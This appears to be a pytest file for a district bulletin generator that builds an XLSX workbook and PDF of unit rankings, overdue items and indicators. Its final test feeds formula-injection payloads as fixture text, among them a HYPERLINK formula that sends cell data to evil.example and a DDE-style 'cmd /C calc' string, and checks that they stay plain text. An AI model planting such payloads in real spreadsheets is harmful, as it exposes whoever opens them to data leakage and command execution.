"""The bulletin's XLSX workbook and PDF, built from hand-made figures: a week in November 2026
for a district with four units (one new to the ranking, one with nothing due), red items,
indicators with and without readings, completed items and an extension."""

from __future__ import annotations

import ctypes
import io
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime

import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from openpyxl import load_workbook

from models.rules.bulletin.editions import Edition
from models.rules.bulletin.figures import Figures
from models.rules.bulletin.headline import Headline
from models.rules.bulletin.indicators import IndicatorRow
from models.rules.bulletin.items import CompletedItem, ExtensionGranted, RedItem
from models.rules.bulletin.periods import Period, PeriodKind
from models.rules.bulletin.ranking import UnitRow
from notifications.bulletin.page import bulletin_subject, bulletin_title
from notifications.bulletin.pdf import bulletin_pdf
from notifications.bulletin.workbook import HEAD_ROWS, SHEETS, bulletin_workbook

WEEK = Period(PeriodKind.week, date(2026, 11, 9), date(2026, 11, 15))
BEFORE = Period(PeriodKind.week, date(2026, 11, 2), date(2026, 11, 8))
PLAN = "xq-2026"
LONG_NAME = "示例区民政局社会福利和慈善事业促进科（区慈善总会秘书处）"


def unit(code: str, name: str, due: int, on_time: int, place: int | None,
         previous_place: int | None, *, overdue: int = 0, newly: int = 0,
         completed: int = 0) -> UnitRow:
    return UnitRow(
        unit_code=code, unit_name=name, due=due, done=due - overdue,
        on_time=on_time, on_time_rate=on_time / due if due else None, overdue=overdue,
        newly_overdue=newly, completed=completed, place=place, previous_place=previous_place,
        movement=None if place is None or previous_place is None else previous_place - place)


def red(milestone_id: int, unit_code: str, unit_name: str, workdays: int, level: int,
        acknowledged: bool, binding: bool = False, assumption: str | None = None,
        unmarked: bool = False) -> RedItem:
    return RedItem(
        milestone_id=milestone_id, plan=PLAN, project="区社会福利中心二期工程",
        title=f"完成第{milestone_id}项消防验收<复验>", unit_code=unit_code, unit_name=unit_name,
        due_on=date(2026, 10, 30), overdue_workdays=workdays, level=level,
        acknowledged=acknowledged, binding=binding, assumption=assumption, unmarked=unmarked)


def district(edition: Edition = Edition.internal) -> Figures:
    public = edition is Edition.public
    units = [
        unit("xq-mzj", "示例区民政局", 4, 4, 1, 2, completed=2),
        unit("xq-jd1", "示例区东街道", 3, 2, 2, 1, overdue=1, newly=1, completed=1),
        unit("xq-cs", LONG_NAME, 1, 1, 3, None),
        unit("xq-jd2", "示例区西街道", 0, 0, None, None),
    ]
    return Figures(
        scope=PLAN, scope_name="示例区民政事业发展行动方案", period=WEEK, previous=BEFORE,
        edition=edition,
        headline=Headline(due=8, done=7, on_time=7, on_time_rate=0.875, overdue=1,
                          newly_overdue=1, completed=3,
                          change={"due": 2, "done": 3, "on_time": 3,
                                  "on_time_rate": 0.875 - 4 / 6, "overdue": -1,
                                  "newly_overdue": 1, "completed": 3}),
        units=units,
        red_items=[red(11, "xq-jd1", "示例区东街道", 12, 2, True, binding=True),
                   red(12, "xq-jd1", "示例区东街道", 3, 0, False,
                       assumption="清单未给出完成日期，按规划期末推定", unmarked=True)],
        indicators=[
            IndicatorRow(plan=PLAN, code="I1", name="养老机构护理型床位占比",
                         unit_name="示例区民政局", measure="%", binding=True,
                         baseline_year=2025, baseline_value=55.0,
                         target_year=2026, target_value=60.0, target_text=None,
                         trajectory_value=59.3, latest_value=58.25,
                         latest_on=date(2026, 10, 31), light="yellow"),
            IndicatorRow(plan=PLAN, code="I2", name="社区食堂覆盖率", unit_name=None, measure=None,
                         binding=False, baseline_year=None, baseline_value=None,
                         target_year=None, target_value=None, target_text=None,
                         trajectory_value=None, latest_value=None, latest_on=None, light=None),
        ],
        completed=[CompletedItem(
            milestone_id=21, plan=PLAN, project="邻里中心", title="建成运营",
            unit_code="xq-mzj", unit_name="示例区民政局", due_on=date(2026, 11, 13),
            claimed_on=date(2026, 11, 12), on_time=True,
            evidence=None if public else "竣工验收备案表", claimed_by=None if public else "王芳")],
        extensions=[ExtensionGranted(
            milestone_id=31, plan=PLAN, project="邻里中心", title="完成装修",
            unit_code="xq-jd1", unit_name="示例区东街道", previous_due_on=date(2026, 11, 10),
            new_due_on=date(2027, 1, 15), decided_on=date(2026, 11, 11),
            reason=None if public else "供货延迟，经区领导同意")],
        honour=["xq-mzj"], shame=["xq-jd1"])


def nation(units: int, red_items: int) -> Figures:
    """A ranking of ``units`` units (the last tenth with nothing due) and ``red_items`` items."""
    ranked = units - units // 10
    rows = [unit(f"u{n:05d}", f"第{n}街道办事处社会事务科", 10, 10 - n * 10 // ranked, n, n + 1,
                 overdue=n * 10 // ranked) for n in range(1, ranked + 1)]
    rows += [unit(f"z{n:05d}", f"第{n}社区", 0, 0, None, None) for n in range(units - ranked)]
    items = [red(n, rows[n % ranked].unit_code, rows[n % ranked].unit_name, 30 - n % 30,
                 n % 4, n % 2 == 0) for n in range(red_items)]
    return replace(district(), units=rows, red_items=items,
                   honour=[r.unit_code for r in rows[:3]],
                   shame=[r.unit_code for r in rows[ranked - 3:ranked]])


def sheet_rows(data: bytes, title: str) -> list[tuple]:
    """A sheet's table: its headings and rows, below the title and period rows."""
    return list(load_workbook(io.BytesIO(data))[title].iter_rows(min_row=HEAD_ROWS,
                                                                  values_only=True))


def day(value: datetime | None) -> date | None:
    return None if value is None else value.date()


# ── the workbook ────────────────────────────────────────────────────────────────────────────

def test_every_sheet_prints_with_its_title_and_period_on_every_a4_landscape_page():
    book = load_workbook(io.BytesIO(bulletin_workbook(district())))
    for sheet in book:
        title, period, _ = sheet.iter_rows(max_row=3, values_only=True)
        assert title[0] == bulletin_title(district())
        assert period[0] == "统计期：2026年11月9日—11月15日　上期：2026年11月2日—11月8日　内部版"
        assert sheet["A1"].font.bold
        assert {str(r).split(":")[0] for r in sheet.merged_cells.ranges} == {"A1", "A2"}
        assert sheet.print_title_rows == "$1:$3" and sheet.freeze_panes == "A4"
        assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == (
            "landscape", int(sheet.PAPERSIZE_A4))
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)


def test_an_empty_sheet_says_so_under_its_headings():
    book = bulletin_workbook(replace(district(), extensions=[], red_items=[]))
    for title in ("批准延期", "红灯事项"):
        headings, *rows = sheet_rows(book, title)
        assert headings[0] == "事项编号"
        assert [r[0] for r in rows] == ["本期无"]


def test_lights_are_filled_in_light_tints_and_levels_are_named_by_the_ladder():
    figures = replace(district(), level_names={PLAN: ["催办提醒", "督办单", "领导督办"]})
    book = load_workbook(io.BytesIO(bulletin_workbook(figures)))
    indicators = book["指标"]
    light = [c.value for c in indicators[HEAD_ROWS]].index("灯") + 1
    cell = indicators.cell(row=HEAD_ROWS + 1, column=light)
    assert (cell.value, cell.fill.fgColor.rgb) == ("黄", "00FFF1B8")
    assert indicators.cell(row=HEAD_ROWS + 2, column=light).fill.fill_type is None  # no light
    headings, *rows = sheet_rows(bulletin_workbook(figures), "红灯事项")
    level = headings.index("督办级别")
    assert [r[level] for r in rows] == ["督办单", None]  # level 2; level 0: not escalated


def test_the_trajectory_is_rounded_to_what_its_unit_allows():
    rows = [replace(district().indicators[0], measure=measure, trajectory_value=value,
                    baseline_value=baseline, target_value=target)
            for measure, value, baseline, target in (
                ("人", 27.95, 20.0, 30.0), ("个", 9.95, 5.0, 12.0), ("%", 59.25, 55.0, 60.0),
                ("元/人、年", 13224.4, 12000.0, 14000.0), ("万元", 1.234, 1.5, 2.25))]
    figures = replace(district(), indicators=rows)
    headings, *cells = sheet_rows(bulletin_workbook(figures), "指标")
    column = headings.index("进度线值")
    assert [r[column] for r in cells] == [28, 10, 59.3, 13224, 1.23]
    # A narrow column may put the measure under its number: read the text without line breaks.
    text = "".join("".join(pdf_pages(bulletin_pdf(figures, chart_png=None))).split())
    for shown in ("28人", "10个", "59.3%", "13224元/人、年", "1.23万元"):
        assert shown in text, shown
    assert "27.95" not in text and "9.95" not in text


def test_workbook_has_one_sheet_per_table_in_order():
    assert load_workbook(io.BytesIO(bulletin_workbook(district()))).sheetnames == list(SHEETS)


def test_overview_holds_the_headline_with_previous_period_and_change():
    figures = district()
    rows = sheet_rows(bulletin_workbook(figures), "概览")
    assert rows[0] == ("统计项", "本期", "上期", "变化")
    by_label = {r[0]: r[1:] for r in rows[1:8]}
    assert by_label["应完成事项"] == (8, 6, 2)
    assert by_label["逾期未完成"] == (1, 2, -1)
    rate_now, rate_then, rate_change = by_label["按期完成率"]
    assert rate_now == 0.875
    assert rate_then == pytest.approx(4 / 6)
    assert rate_change == pytest.approx(figures.headline.change["on_time_rate"])
    facts = {r[0]: r[1:3] for r in rows[9:] if r[0]}
    assert facts["范围"] == ("示例区民政事业发展行动方案", PLAN)
    assert tuple(map(day, facts["本期"])) == (WEEK.first, WEEK.last)
    assert tuple(map(day, facts["上期"])) == (BEFORE.first, BEFORE.last)
    assert facts["版本"][0] == "内部版"


def test_ranking_sheet_lists_every_unit_in_order_with_places_and_rates():
    figures = district()
    data = bulletin_workbook(figures)
    rows = sheet_rows(data, "单位排名")
    assert rows[0][:5] == ("名次", "名次变化", "上期名次", "单位代码", "单位")
    assert [r[3] for r in rows[1:]] == [u.unit_code for u in figures.units]
    for row, u in zip(rows[1:], figures.units, strict=True):
        assert row[0] == u.place and row[2] == u.previous_place and row[4] == u.unit_name
        assert row[5:12] == (u.due, u.done, u.on_time, u.on_time_rate, u.overdue,
                             u.newly_overdue, u.completed)
    assert [r[1] for r in rows[1:]] == [1, -1, "新", None]  # shown as ↑1, ↓1, 新, (unranked)
    assert [r[12] for r in rows[1:]] == ["红榜", "黑榜", None, None]
    sheet = load_workbook(io.BytesIO(data))["单位排名"]
    assert sheet["I5"].number_format == "0.0%" and sheet["I5"].value == pytest.approx(2 / 3)
    assert sheet.freeze_panes == "A4" and sheet["A3"].font.bold


def test_item_sheets_hold_red_items_indicators_completed_and_extensions():
    figures = district()
    data = bulletin_workbook(figures)
    red_rows = sheet_rows(data, "红灯事项")
    assert [(r[0], r[3], r[5], day(r[6]), r[7], r[8], r[9], r[10], r[11]) for r in red_rows[1:]] \
        == [(r.milestone_id, r.title, r.unit_name, r.due_on, r.overdue_workdays,
             f"{r.level}级" if r.level else None,  # no ladder in these figures: the level's number
             "是" if r.acknowledged else "否", "是" if r.binding else "否", r.assumption)
            for r in figures.red_items[:1]] + [
        (12, "完成第12项消防验收<复验>", "示例区东街道", date(2026, 10, 30), 3, None, "否",
         "未标注", "清单未给出完成日期，按规划期末推定")]
    assert red_rows[0][11] == "推定（规划未给出日期或内容）"
    assert [r[5] for r in sheet_rows(data, "指标")[1:]] == ["是", "否"]
    indicators = sheet_rows(data, "指标")
    assert indicators[1][:3] == (PLAN, "I1", "养老机构护理型床位占比")
    assert indicators[1][6:10] == (2025, 55.0, 2026, 60.0)
    assert indicators[1][11:] == (59.3, 58.25, datetime(2026, 10, 31), "黄")
    assert indicators[2][:3] == (PLAN, "I2", "社区食堂覆盖率")
    assert indicators[2][3:5] == (None, None) and indicators[2][6:] == (None,) * 9
    completed = sheet_rows(data, "本期完成")
    assert completed[0][-2:] == ("佐证材料", "申报人")
    assert completed[1][:1] + completed[1][6:] == (
        21, datetime(2026, 11, 13), datetime(2026, 11, 12), "是", "竣工验收备案表", "王芳")
    extensions = sheet_rows(data, "批准延期")
    assert extensions[1][0] == 31 and extensions[1][6:] == (
        datetime(2026, 11, 10), datetime(2027, 1, 15), datetime(2026, 11, 11),
        "供货延迟，经区领导同意")


def test_public_workbook_has_no_evidence_claimer_or_reason_columns():
    data = bulletin_workbook(district(Edition.public))
    completed, extensions = sheet_rows(data, "本期完成"), sheet_rows(data, "批准延期")
    assert "佐证材料" not in completed[0] and "申报人" not in completed[0]
    assert "延期理由" not in extensions[0]
    assert len(completed[1]) == len(completed[0]) and completed[1][-1] == "是"
    assert "公开版" in {r[1] for r in sheet_rows(data, "概览") if r[0] == "版本"}


def test_a_units_own_workbook_names_it_and_keeps_the_whole_ranking():
    data = bulletin_workbook(district().for_unit("xq-jd1"))
    assert ("本单位", "示例区东街道", "xq-jd1") in [r[:3] for r in sheet_rows(data, "概览")]
    assert len(sheet_rows(data, "单位排名")) == 1 + 4
    assert [r[0] for r in sheet_rows(data, "本期完成")[1:]] == ["本期无"]


def test_workbook_dates_are_excel_dates_in_chinese_form():
    sheet = load_workbook(io.BytesIO(bulletin_workbook(district())))["红灯事项"]
    assert sheet["G4"].is_date and sheet["G4"].number_format == 'yyyy"年"m"月"d"日"'


def test_two_workbook_builds_are_byte_identical_and_dated_by_the_period():
    first = bulletin_workbook(district())
    assert bulletin_workbook(district()) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2026, 11, 16, 0, 0, 0)}
    properties = load_workbook(io.BytesIO(first)).properties
    assert properties.created == properties.modified == datetime(2026, 11, 15, 16, 0)


def test_the_next_week_gives_a_different_stamp():
    later = replace(district(), period=Period(PeriodKind.week, date(2026, 11, 16),
                                              date(2026, 11, 22)))
    assert bulletin_workbook(later) != bulletin_workbook(district())


@pytest.mark.parametrize("period", [
    WEEK, Period(PeriodKind.week, date(2025, 12, 29), date(2026, 1, 4)),
    Period(PeriodKind.month, date(2026, 10, 1), date(2026, 10, 31)),
    Period(PeriodKind.custom, date(2026, 10, 1), date(2026, 10, 20)),
    Period(PeriodKind.custom, date(2025, 10, 1), date(2026, 10, 20))])
@pytest.mark.parametrize("edition", list(Edition))
def test_files_carry_the_title_of_the_email_they_come_with(period, edition):
    figures = replace(district(edition), period=period)
    assert bulletin_subject(figures) == "【督办】" + bulletin_title(figures)


# ── the PDF ─────────────────────────────────────────────────────────────────────────────────

def pdf_pages(data: bytes) -> list[str]:
    document = pdfium.PdfDocument(data)
    texts = []
    for page in document:
        text = page.get_textpage()
        texts.append(text.get_text_range())
    return texts


@pytest.fixture(scope="module")
def district_pdf() -> bytes:
    return bulletin_pdf(district(), chart_png=None)


def test_pdf_shows_chinese_title_units_and_figures(district_pdf):
    text = "".join(pdf_pages(district_pdf))
    for words in ("示例区民政事业发展行动方案 督办晾晒通报（2026年第46周，11月9日—11月15日）",
                  "按期完成率", "87.5%",
                  "示例区东街道", "66.7%", "红榜", "黑榜", "↑1", "↓1", "新", "示例区西街道",
                  "完成第11项消防验收<复验>", "养老机构护理型床位占比", "黄灯", "58.25%", "暂无",
                  "竣工验收备案表", "王芳", "供货延迟", "+20.8 个百分点", "第 1 页 / 共 "):
        assert words in text, words
    assert re.search(r"完成第12项消防验收<复验>（推定）\s*推定：清单未给出完成日期，按规划期末推定",
                     text)
    assert "完成第11项消防验收<复验>（推定）" not in text


def test_pdf_page_is_not_blank(district_pdf):
    image = pdfium.PdfDocument(district_pdf)[0].render(scale=0.5).to_pil().convert("L")
    inked = sum(image.histogram()[:250]) / (image.width * image.height)
    assert inked > 0.05, inked


def test_pdf_embeds_its_fonts(district_pdf):
    page = pdfium.PdfDocument(district_pdf)[0]
    fonts = set()
    for text in page.get_objects(filter=[pdfium_c.FPDF_PAGEOBJ_TEXT]):
        font = pdfium_c.FPDFTextObj_GetFont(text.raw)
        name = ctypes.create_string_buffer(128)
        pdfium_c.FPDFFont_GetBaseFontName(font, name, len(name))
        fonts.add((name.value.decode().partition("+")[2],
                   bool(pdfium_c.FPDFFont_GetIsEmbedded(font))))
    assert ("WenQuanYi-Micro-Hei", True) in fonts
    assert all(embedded for _, embedded in fonts), fonts


def test_a_units_own_pdf_names_it_and_lists_only_its_items():
    text = "".join(pdf_pages(bulletin_pdf(district().for_unit("xq-mzj"), chart_png=None)))
    assert "本单位：示例区民政局" in text and "示例区东街道" in text  # the whole ranking
    assert "完成第11项消防验收" not in text and "本期无红灯事项" in text


def test_public_pdf_says_so_and_leaves_out_names_evidence_and_reasons():
    text = "".join(pdf_pages(bulletin_pdf(district(Edition.public), chart_png=None)))
    assert "公开版" in text
    for words in ("王芳", "竣工验收备案表", "申报人", "佐证材料", "延期理由", "供货延迟"):
        assert words not in text, words


def test_pdf_carries_the_chart(district_pdf):
    chart = _png(300, 120)
    with_chart = bulletin_pdf(district(), chart_png=chart)
    assert b"/Subtype /Image" in with_chart and b"/Subtype /Image" not in district_pdf


def test_two_pdf_builds_are_byte_identical(district_pdf):
    assert bulletin_pdf(district(), chart_png=None) == district_pdf
    metadata = pdfium.PdfDocument(district_pdf).get_metadata_dict()
    assert metadata["CreationDate"] == metadata["ModDate"] == "D:20261116000000+08'00"
    assert metadata["Title"] == bulletin_title(district())


def test_long_ranking_runs_over_pages_with_the_heading_repeated():
    pages = pdf_pages(bulletin_pdf(nation(units=120, red_items=0), chart_png=None))
    heading = "名次 变化 单位 应完成 已完成 按期完成 按期完成率 逾期 新增逾期 本期完成"
    assert len(pages) > 2
    assert all(heading in page for page in pages[:3])
    assert "第50街道办事处社会事务科" not in pages[0]
    assert f"第 2 页 / 共 {len(pages)} 页" in pages[1]


def test_a_nation_scale_pdf_prints_the_ends_and_says_where_the_rest_is():
    from notifications.bulletin.pdf import PRINT_RANKED, PRINT_ROWS

    figures = nation(units=PRINT_RANKED + 300, red_items=PRINT_ROWS + 40)
    text = "".join(pdf_pages(bulletin_pdf(figures, chart_png=None)))
    ranked = [u for u in figures.units if u.place is not None]
    assert f"中间 {len(ranked) - PRINT_RANKED} 个单位略" in text and "另有 40 项未列出" in text
    assert ranked[0].unit_name in text and ranked[-1].unit_name in text
    assert ranked[PRINT_RANKED // 2 + 10].unit_name not in text


def _png(width: int, height: int) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (192, 0, 0)).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/x?"&A1,"点击查看佐证")',
                                  "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
def test_peoples_text_that_looks_like_a_formula_stays_text_in_the_workbook(text: str) -> None:
    figures = district()
    figures = replace(figures, completed=[replace(c, evidence=text, title=text)
                                          for c in figures.completed])
    data = bulletin_workbook(figures)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(n).decode() for n in book.namelist()
                  if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    cells = [c for row in load_workbook(io.BytesIO(data))["本期完成"].iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == text] == ["s", "s"]
